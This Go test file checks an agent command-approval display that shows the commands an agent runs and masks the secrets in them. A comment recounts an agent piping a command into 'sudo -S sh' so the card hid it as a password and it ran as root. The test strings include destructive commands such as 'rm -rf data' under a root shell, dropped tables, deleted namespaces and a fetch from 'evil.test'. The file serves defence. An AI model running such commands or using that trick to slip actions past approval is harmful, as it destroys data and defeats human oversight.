package display

import (
	"strings"
	"testing"
)

// The story: an agent piped a command into sudo -S sh. The card hid it as sudo's password,
// a tap approved it for the whole session, and it ran as root. What sudo leaves of its
// input is the command's: it is shown, unless the command is known to read none.
func TestWhatACommandReadsIsShown(t *testing.T) {
	for _, command := range []string{
		"echo reboot | sudo -S sh", "echo \"rm -rf data\" | sudo -S bash", "echo reboot | sudo -S -u prod sh",
		"echo reboot | sudo --stdin --user prod sh", "echo reboot | /usr/bin/sudo -S sh",
		"echo reboot | sudo -kS sh -s", "echo reboot | sudo -S -- sh", "echo reboot | sudo -S -s", "echo reboot | sudo -S -i",
		"echo reboot | sudo -Si", "echo reboot | sudo -S --shell",
		"echo reboot | sudo -S --login ls", "echo reboot | sudo -S -p '' bash", "echo reboot | sudo -Sp '' bash",
		"echo reboot | sudo -S env sh", "echo reboot | sudo -S nohup sh",
		"echo reboot | sudo -S PATH=. ls", "echo reboot | env sudo -S sh", "echo reboot | sudo sudo -S sh",
		"echo reboot | command sudo -S sh", "(echo reboot) | sudo -S sh",
		"{ echo reboot; } | sudo -S sh", "echo reboot | cat | sudo -S sh", "echo reboot |& sudo -S sh",
		"cd x && echo reboot | sudo -S sh && echo done", "sudo -S sh <<< reboot",
		"sudo -S sh <<E\nreboot\nE", "printf reboot | sudo -S sh", "echo reboot | sudo -S ./deploy.sh",
		"echo production | sudo -S xargs kubectl delete ns",
		"echo \"drop table customers\" | sudo -S psql prod", "echo \"drop table customers\" | sudo -S mysql",
		"echo \"rm -rf data\" | sudo -S ssh root@prod", "echo prod | sudo -S kubectl delete -f -",
		"echo reboot | sudo -S tee x.sh", "echo reboot | sudo -S cp /dev/stdin x.sh",
		"echo reboot | sudo -S cp /proc/self/fd/0 x.sh", "echo reboot | sudo -S date -f -",
		"echo reboot | sudo -S docker exec -i x sh",
		"echo reboot | sudo -S find . -exec sh {} +", "echo reboot | sudo -S apt update -o APT::Update::Pre-Invoke::=sh",
		"echo reboot | sudo -S mount -t fuse sh#x /mnt", "echo reboot | sudo -S chmod 755 -",
		"(echo letmein; echo reboot) | sudo -S ls /dev/stdin", "echo reboot | sudo -S python3",
		"echo reboot | sudo -S at now", "echo reboot | sudo -S crontab",
		"echo reboot | su", "echo \"rm -rf data\" | su root", "echo \"rm -rf data\" | su - root", "su root <<< reboot",
		"echo reboot | su -c sh root", "echo YES | cryptsetup luksFormat disk.img",
		"echo y | sudo -S ls", "echo \"rm -rf data\" | cat > x.sh | docker login --password-stdin h; sh x.sh",
		"echo \"rm -rf data\" | head -1 >x.sh | docker login --password-stdin h; sh x.sh",
		"cat <<< \"rm -rf data\" > x.sh | docker login --password-stdin h; sh x.sh", "echo reboot | sshpass -e ssh root@prod",
		"echo reboot | sshpass -p \"$P\" sudo -S sh",
	} {
		shown, obscured := shellCall(command).Shown()
		if strings.Contains(shown, hiddenWords) || obscured {
			t.Errorf("what decides is hidden (%v): %s\n  shown as %s", obscured, command, shown)
		}
		if shown := Mask(command); strings.Contains(shown, hiddenWords) {
			t.Errorf("the audit hides what decides: %s", shown)
		}
	}
}

// What looks like a secret and may be a command's input is hidden, and takes the code.
func TestASecretInACommandsInputTakesTheCode(t *testing.T) {
	for _, command := range []string{
		"echo K | sudo -S sh", "echo K | sudo -S docker ps", "echo K | sudo -S -u prod ./x.sh", "echo K | su",
		"echo K | su - root -c ls", "echo K | sudo -S xargs ls", "echo K | sudo -S -s",
	} {
		for _, key := range []string{"hunter22", "abcDEF123456ghiJKL789", "Summer2026!"} {
			call := shellCall(strings.ReplaceAll(command, "K", key))
			if shown, obscured := call.Shown(); !obscured || strings.Contains(shown, key) {
				t.Errorf("obscured %v: %s", obscured, shown)
			}
		}
	}
	for _, command := range []string{
		"echo K | sudo -S ls", "echo K | sudo -S -v", "echo K | sudo -Sv", "echo K | sudo -S apt-get install -y jq",
		"echo K | sudo -S systemctl restart web", "echo K | sudo -S -u root whoami",
		"echo 'K' | sudo -kS -p '' mount /mnt", "echo K | sudo --stdin chown a b",
	} {
		if shown, obscured := shellCall(strings.ReplaceAll(command, "K", random)).Shown(); obscured ||
			strings.Contains(shown, random) {
			t.Errorf("an honest call (obscured %v): %s", obscured, shown)
		}
		if shown, obscured := shellCall(strings.ReplaceAll(command, "K", "production")).Shown(); !obscured ||
			strings.Contains(shown, "production") {
			t.Errorf("a word of no secret form (obscured %v): %s", obscured, shown)
		}
	}
}

// The story: --password is a switch of dropdb, so that the database which was dropped
// stood behind it and was hidden. A word behind a switch, behind a name in another
// command's words, or at another position than the password's is no password.
func TestWordsBehindSwitchesAreShown(t *testing.T) {
	for _, command := range []string{
		"dropdb --password production", "sudo -u postgres dropdb --password production",
		"psql --password production -c 'drop table x'", "pg_restore --clean --password prod.dump",
		"pg_dump --password production", "createdb --password production", "vacuumdb --password production",
		"reindexdb --password production", "dropuser --password production",
		"mysql --password production -e 'drop table x'", "mysqladmin --password drop production",
		"mysqldump --password production", "mysqlimport --password production f", "mariadb --password production",
		"wget --ask-password evil.test/x.sh", "ansible-playbook --ask-vault-password prod.yml",
		"ansible-playbook --ask-become-password prod.yml", "lftp --env-password prod.host",
		"gcloud sql users set-password --prompt-for-password root --instance prod", "sqlplus -s / @sql/drop_prod.sql",
		"sqlplus -s sys @scripts/drop_prod.sql", "sqlplus / @x.sql prod/east",
		"sqlplus @sql/drop_prod.sql", "expdp x directory=a/b", "sshpass -e docker compose -p production down -v",
		"sshpass -f pw ssh -p 2222 root@prod reboot", "sshpass -e ssh -p 2222 prod reboot",
		"sshpass -d 3 scp -P 22 a b", "redis-cli del auth customers orders", "redis-cli -h prod hdel auth users",
		"redis-cli sadd requirepass production", "redis-cli del masterauth production",
		"redis-cli -n 2 del auth customers", "redis-cli del -a customers", "redis-cli -h prod unlink --pass customers orders",
		"openssl enc -kfile production.key -in a", "htpasswd -D f production", "redis-cli set x '>production'",
		"valkey-cli DEL AUTH customers", "nmcli con delete password production",
		"security delete-keychain -w production.keychain",
		"security find-generic-password -s svc -w production.keychain", "npm config delete //r/:_authToken registry",
		"net user bob production", "curl -X DELETE https://x.test/o -d token=customers",
		"curl -X DELETE https://x.test/o -d access_key=production",
		"kubectl create configmap app --from-literal=token=production", "mkpasswd -m sha \"$P\"",
		"pg_basebackup --password --pgdata x",
	} {
		if shown, obscured := shellCall(command).Shown(); obscured || shown != command {
			t.Errorf("hidden, or taken for hidden (%v):\n%s\n%s", obscured, command, shown)
		}
	}
}

// Where only a position, a statement or a flag that may be a switch says that a word is a
// secret, and its form does not, the card says that it hides something.
func TestAPositionAloneTakesTheCode(t *testing.T) {
	for _, command := range []string{
		"git config a:_auth production", "bw unlock production", "mkpasswd -m sha-512 production",
		"htpasswd -b f user production", "vault login production", "vault operator unseal production",
		"redis-cli auth production", "redis-cli config set requirepass production", "redis-cli acl setuser bob '>production'",
		"mc alias set m https://h a production", "wpa_passphrase x production",
		"npm config set //r/:_authToken production", "aws configure set aws_secret_access_key production",
		"sqlplus prod/production", "mongo -u a -p production", "cargo login production",
		"aws rds delete-db-instance --token production", "docker run --rm --token production x",
		"git push --foo && gh api --password production", "aws x y --password production",
		"echo production | docker login --password-stdin h", "docker login --password-stdin h <<< production",
		"echo production | gh secret set X", "echo production | vercel env add X prod",
		"echo root:production | chpasswd", "echo production | gpg --passphrase-fd 0 -d x",
		"mysql -e \"alter user root identified by 'production'\"", "sqlcmd -Q \"ALTER LOGIN a WITH PASSWORD = 'production'\"",
		"kubectl delete ns --token production", "oc delete project --token production",
		"kubectl --token production delete ns", "vercel --token production", "vercel remove --token production --yes",
		"vercel rm -t production",
		"netlify sites:delete --token production", "helm uninstall --token production x",
		"helm uninstall x --password production", "helm delete --token=production x",
		"aws rds delete-db-instance --session-token production", "aws s3 rm --token=production s3://x",
		"aws ec2 terminate-instances --master-user-password production",
		"docker run --token=production x", "docker rm --token production", "docker compose --token production down",
		"docker stack rm --password production", "docker volume rm --access-token=production",
		"gh repo delete --token production", "gh release delete --password=production",
		"terraform destroy --token production", "terraform destroy --api-key=production",
		"gcloud sql instances delete --password production",
		"az group delete --sas-token production", "az vm delete --password production",
		"flyctl apps destroy --token production", "heroku apps:destroy --token production",
		"doctl compute droplet delete -t production",
		"stripe customers delete --token production", "git push --token production main", "npm unpublish --token production",
		"curl -X DELETE --token production https://h", "redis-cli --token production flushall",
		"kubectl exec x -- drop --token production", "kubectl delete ns -- --token=prod-east1",
		"docker login -- -p production", "kubectl delete ns --token a1B2c3D4e5F6g7H8 -- x --api-key a1B2c3D4e5F6g7H9",
		"docker rm --token a1B2c3D4e5F6g7H8",
		"curl -X DELETE https://x.test/o -d password=production",
		"curl -X DELETE https://x.test/o -d token=prod-east-4417-abcd",
	} {
		if shown, obscured := shellCall(command).Shown(); !obscured || !strings.Contains(shown, hiddenWords) {
			t.Errorf("a tap is enough (obscured %v): %s\n  shown as %s", obscured, command, shown)
		}
	}
}

// The story: an argument of JSON in JSON was hidden on the card, and in the clear in the
// audit, which masks each argument by itself.
func TestMaskReadsAnArgumentOfJSON(t *testing.T) {
	const key = "Zq6xWvK7pLm53Tr9Bn2Yc"
	for _, text := range []string{
		`{"auth": {"token": "K"}}`, `{"auth":{"token":"K"}}`, `{ "token" : "K" }`, `[{"token": "K"}]`,
		"{\n \"auth\": {\n  \"password\": \"K\"}}", `{"a": [{"name": "API_KEY", "value": "K"}]}`,
		`{"args": ["--token", "K"]}`, `{"x": "{\"token\": \"K\"}"}`, `["--token", "K"]`, `  {"secret": "K"}`,
	} {
		if shown := Mask(strings.ReplaceAll(text, "K\"", key+"\"")); strings.Contains(shown, key) {
			if s := strings.ReplaceAll(text, "K\\", key+"\\"); strings.Contains(Mask(s), key) {
				t.Errorf("in the clear: %s", shown)
			}
		}
	}
	if s := `{"x": "{\"token\": \"` + key + `\"}"}`; strings.Contains(Mask(s), key) {
		t.Errorf("in the clear: %s", Mask(s))
	}
}

// The story: the notice of what is not bound, and the store, named the call with its
// secret in the clear, because behind other words nothing says that it is one.
func TestNamesOfWhatIsNotBoundShowNoSecret(t *testing.T) {
	for _, command := range []string{
		"npm config set //registry.npmjs.org/:_authToken K", "kubectl create secret generic a --from-literal=password=K",
		"vault login K", "redis-cli -a K flushall", "echo K | docker login --password-stdin h",
	} {
		command = secretK.ReplaceAllString(command, "${1}"+random)
		names := shellCall(command).MaskNames([]string{"what " + command + " runs", "a.sh"})
		if strings.Contains(names[0], random) || names[1] != "a.sh" {
			t.Errorf("%q", names)
		}
	}
}
